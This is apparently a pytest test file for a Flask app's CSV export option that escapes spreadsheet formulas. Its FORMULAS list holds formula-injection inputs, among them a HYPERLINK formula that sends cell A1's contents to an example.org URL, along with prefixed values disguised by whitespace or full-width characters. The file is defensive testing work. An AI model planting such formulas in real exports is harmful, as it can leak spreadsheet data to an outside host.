"""`flask heroes export --escape-formulas`: text that a spreadsheet would run."""

import csv
import json
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from flask.testing import FlaskClient, FlaskCliRunner

from tests.constants import stored

# Stores heroes with these names and secrets, and returns the exported file: export(names, suffix, *options).
Export = Callable[..., Path]

FORMULAS = [
    '=HYPERLINK("https://example.org?"&A1,"Deadpond")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=",
]
PLAIN = ["Deadpond", "", "'=1+1", " =1+1", "a=1", "1-1", "Dead-pond@example.org"]


@pytest.fixture
def export(runner: FlaskCliRunner, client: FlaskClient, tmp_path: Path) -> Export:

    def export_names(names: Sequence[str], suffix: str, *options: str) -> Path:
        for name in names:
            client.post("/heroes/", json={"name": name, "age": -5, "secret_name": name})
        file = tmp_path / f"heroes.{suffix}"
        result = runner.invoke(args=["heroes", "export", "--with-secrets", *options, str(file)])
        assert (result.exit_code, result.stderr) == (0, f"{len(names)} heroes exported\n")
        return file

    return export_names


def read_rows(file: Path) -> list[tuple[str, str, str]]:
    with file.open(newline="", encoding="utf-8") as stream:
        return [(row["name"], row["age"], row["secret_name"]) for row in csv.DictReader(stream)]


def test_formulas_are_escaped_by_an_apostrophe(export: Export) -> None:
    rows = read_rows(export(FORMULAS, "csv", "--escape-formulas"))

    assert rows == [(f"'{text}", "-5", f"'{text}") for text in FORMULAS]


def test_other_text_and_numbers_stay_as_they_are(export: Export) -> None:
    assert read_rows(export(PLAIN, "csv", "--escape-formulas")) == [(text, "-5", text) for text in PLAIN]


def test_formulas_are_exported_unchanged_by_default(export: Export) -> None:
    assert read_rows(export(FORMULAS, "csv")) == [(text, "-5", text) for text in FORMULAS]


def test_header_is_not_changed(export: Export) -> None:
    file = export(["=1"], "csv", "--escape-formulas")

    header, _, end = file.read_bytes().decode().split("\r\n")
    assert sorted(header.split(",")) == sorted(stored())
    assert read_rows(file) == [("'=1", "-5", "'=1")]
    assert end == ""


def test_ndjson_has_no_formulas_to_escape(runner: FlaskCliRunner, export: Export, tmp_path: Path) -> None:
    file = export(["=1"], "ndjson")

    result = runner.invoke(args=["heroes", "export", "--escape-formulas", str(tmp_path / "other.ndjson")])

    assert json.loads(file.read_text())["name"] == "=1"
    assert result.exit_code == 2
    assert "--escape-formulas is for CSV only" in result.stderr
    assert not (tmp_path / "other.ndjson").exists()


def test_help_describes_the_option(runner: FlaskCliRunner) -> None:
    assert "--escape-formulas" in runner.invoke(args=["heroes", "export", "--help"]).stdout
